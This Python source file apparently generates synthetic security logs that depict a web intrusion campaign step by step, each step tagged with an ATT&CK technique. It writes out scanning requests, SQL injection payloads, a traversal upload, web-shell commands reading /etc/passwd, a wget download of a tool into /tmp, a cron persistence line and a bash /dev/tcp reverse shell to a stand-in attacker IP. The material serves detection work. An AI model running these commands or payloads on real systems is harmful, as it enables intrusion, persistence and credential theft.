"""A web site takes a file that it should not take, and from then on does what it is told.

Scan, exploit, web shell, tools, a job that stays, a shell that calls back.
"""

from __future__ import annotations

from typing import Final

from mingjian.sample.campaigns.script import Script
from mingjian.sample.deeds import linux, network
from mingjian.sample.moments import MINUTE, SECOND
from mingjian.sample.scene import Scene
from mingjian.sample.world import Site
from mingjian.sample.writers.flows import Request

ATTACKER: Final = "203.0.113.232"
TOOLS: Final = Site("mirror-pkg.example.org", "203.0.113.233", is_plain=True)
_BROWSER: Final = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_SHELL: Final = "/uploads/2026/thumb_db.php"
_TOOL: Final = "/tmp/.kworkerd"  # noqa: S108 - the intruder's path, as it stands in the logs; nothing is written there


def write(script: Script) -> None:
    """Write the campaign."""
    _enter(script)
    _settle(script)
    _call(script)


def _settle(script: Script) -> None:
    server = script.organisation.first("web")

    def fetch_tools(scene: Scene, time_us: int, mark: int) -> None:
        command = f"wget -q http://{TOOLS.name}/kworkerd -O {_TOOL}"
        pid = linux.run(
            scene,
            time_us,
            server,
            "www-data",
            ("sh", "-c", f"{command}; chmod +x {_TOOL}"),
            "/usr/bin/dash",
            mark,
            parent_pid=1021,
            folder="/srv/www/uploads/2026",
        )
        words = tuple(command.split())
        linux.run(
            scene, time_us + 5_000, server, "www-data", words, "/usr/bin/wget", mark, parent_pid=pid, folder="/srv/www"
        )
        request = Request("GET", TOOLS.name, "/kworkerd", "Wget/1.21.4", 200, 0, 1_204_224, "application/x-executable")
        network.fetch(scene, time_us + 40_000, server, TOOLS, request, mark)
        words = ("chmod", "+x", _TOOL)
        linux.run(
            scene,
            time_us + 3 * SECOND,
            server,
            "www-data",
            words,
            "/usr/bin/chmod",
            mark,
            parent_pid=pid,
            folder="/srv/www",
        )

    step = script.step("tools", "T1105", "The web server fetches a program", "Web 服务器下载程序")
    script.plant(step, script.at(0.5, 20.3), server, "www-data", fetch_tools, domain=TOOLS.name, file=_TOOL)

    def stay(scene: Scene, time_us: int, mark: int) -> None:
        command = f'(crontab -l; echo "*/30 * * * * {_TOOL}") | crontab -'
        pid = linux.run(
            scene, time_us, server, "www-data", ("sh", "-c", command), "/usr/bin/dash", mark, parent_pid=1021
        )
        linux.run(
            scene, time_us + 3_000, server, "www-data", ("crontab", "-"), "/usr/bin/crontab", mark, parent_pid=pid
        )
        scene.audit.touched(
            server,
            time_us + 9_000,
            "/var/spool/cron/crontabs/www-data",
            "/usr/bin/crontab",
            33,
            auid=linux.NOBODY,
            key="cron",
            mark=mark,
        )

    step = script.step("job", "T1053.003", "A job starts it every half hour", "定时任务每半小时启动一次")
    script.plant(step, script.at(0.5, 20.6), server, "www-data", stay, file="/var/spool/cron/crontabs/www-data")


def _call(script: Script) -> None:
    server = script.organisation.first("web")

    def run_job(scene: Scene, time_us: int, mark: int) -> None:
        linux.job(scene, time_us, server, "www-data", _TOOL, mark)
        words = (_TOOL,)
        linux.run(scene, time_us + 6_000, server, "www-data", words, words[0], mark, parent_pid=811)
        network.connect(scene, time_us + SECOND, server.address, ATTACKER, 4443, "", 50 * SECOND, 4_100, 2_900, mark)

    step = script.step("callback", "T1571", "It calls out on an unusual port", "经非常用端口回连")
    times_us = script.every(script.at(0.5, 21.0), 30 * MINUTE, 0)
    script.plant_often(step, times_us, server, "www-data", run_job, ip=ATTACKER)

    def call_back(scene: Scene, time_us: int, mark: int) -> None:
        command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'"
        linux.run(scene, time_us, server, "www-data", ("sh", "-c", command), "/usr/bin/dash", mark, parent_pid=1021)
        network.connect(scene, time_us + 90_000, server.address, ATTACKER, 4444, "", 6 * MINUTE, 31_000, 8_800, mark)

    step = script.step("shell", "T1059.004", "A shell is handed to the intruder", "向攻击者交出命令行")
    script.plant(step, script.at(0.5, 21.4), server, "www-data", call_back, ip=ATTACKER)


def _enter(script: Script) -> None:
    server, host_name = script.organisation.first("web"), f"www.{script.organisation.id}"

    def requests(scene: Scene, time_us: int, mark: int, rows: tuple[tuple[str, str, str, int], ...]) -> None:
        for place, (method, uri, agent, status) in enumerate(rows):
            moment_us = time_us + place * 900_000
            request = Request(method, host_name, uri, agent, status, 0, 312 if status == 200 else 162)
            scene.nginx.write(moment_us, ATTACKER, request, mark)
            network.connect(scene, moment_us, ATTACKER, server.address, 443, "ssl", 400_000, 1_100, 2_400, mark)

    def scan(scene: Scene, time_us: int, mark: int) -> None:
        words = (
            "admin",
            "backup",
            "old",
            "upload",
            "shell",
            "db",
            "test",
            "manage",
            "api/v1",
            "editor",
            "install",
            "console",
        )
        rows = tuple(
            ("GET", f"/{word}{ending}", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", 404)
            for word in words
            for ending in ("/", ".php", ".bak")
        )
        requests(scene, time_us, mark, rows)

    step = script.step(
        "scan", "T1595.002", "Somebody goes through the web site, looking for holes", "有人逐一探测网站漏洞"
    )
    script.plant(step, script.at(0.17, 17.1), server, "", scan, source=ATTACKER)

    def inject(scene: Scene, time_us: int, mark: int) -> None:
        requests(scene, time_us, mark, (
            ("GET", "/search?q=1%27%20UNION%20SELECT%20null,version()--%20-", _BROWSER, 200),
            ("GET", "/search?q=1%27%20UNION%20SELECT%20login,hash%20FROM%20users--%20-", _BROWSER, 200),
            ("POST", "/editor/upload.php?dir=../../uploads/2026", _BROWSER, 200),
        ))  # fmt: skip

    step = script.step(
        "exploit", "T1190", "An injection gives a login, an upload takes a script", "注入取得登录，再上传脚本"
    )
    script.plant(step, script.at(0.17, 17.6), server, "", inject, source=ATTACKER)

    def use(scene: Scene, time_us: int, mark: int) -> None:
        rows = tuple(
            ("GET", f"{_SHELL}?cmd={command}", _BROWSER, 200)
            for command in ("id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/srv/www")
        )
        requests(scene, time_us, mark, rows)
        for place, command in enumerate(("id", "uname -a", "cat /etc/passwd", "ls -la /srv/www")):
            moment_us = time_us + place * 900_000 + 20_000
            pid = linux.run(
                scene, moment_us, server, "www-data", ("sh", "-c", command), "/usr/bin/dash", mark, parent_pid=1021,
                folder="/srv/www/uploads/2026",
            )  # fmt: skip
            words = tuple(command.split())
            linux.run(
                scene, moment_us + 4_000, server, "www-data", words, f"/usr/bin/{words[0]}", mark, parent_pid=pid,
                folder="/srv/www/uploads/2026",
            )  # fmt: skip

    step = script.step("webshell", "T1505.003", "The script runs commands", "脚本执行系统命令")
    script.plant(step, script.at(0.34, 18.2), server, "www-data", use, file=_SHELL, source=ATTACKER)
